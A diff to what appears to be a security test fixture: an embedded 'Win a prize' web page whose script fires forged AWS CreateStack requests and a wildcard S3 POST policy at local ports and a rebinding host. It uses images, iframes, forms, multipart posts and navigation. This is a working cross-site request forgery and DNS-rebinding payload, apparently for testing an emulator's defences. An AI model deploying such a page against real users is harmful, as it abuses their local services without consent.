@@ -29,6 +29,8 @@ _CREATE = f"Action=CreateStack&Version=2010-05-15&StackName=evil&TemplateBody=x&
 
 _PAGE = """<!doctype html><meta charset="utf-8"><title>Win a prize</title><body><script>
 const ports = PORTS, like = LIKE, create = CREATE
+const conditions = [['starts-with', '$key', ''], ['starts-with', '$bucket', '']]
+const policy = btoa(JSON.stringify({ expiration: '2099-01-01T00:00:00Z', conditions }))
 const ended = (element) => new Promise((done) => { element.onload = element.onerror = () => done() })
 const add = (name, facts) => { const it = Object.assign(document.createElement(name), facts); const end = ended(it)
   document.body.append(it); return end }
@@ -53,7 +55,7 @@ async function attack(port) {
     quiet(fetch(`http://REBOUND:${port}/`, { method: 'POST', body: new URLSearchParams(create), mode: 'no-cors' })) ]
   const sent = [ add('img', { src: `${at('img')}/?${create}` }), add('iframe', { src: `${at('frame')}/?${create}` }),
     post(`${at('form')}/`, 'application/x-www-form-urlencoded', fields),
-    post(`${at('multipart')}/bucket`, 'multipart/form-data', { key: 'a', file: 'b' }) ]
+    post(`${at('multipart')}/multipart`, 'multipart/form-data', { key: 'a', policy, file: 'b' }) ]
   open(`${at('navigation')}/?${create}`); open(`http://REBOUND:${port}/?${create}`)
   return Promise.all(read)
 }
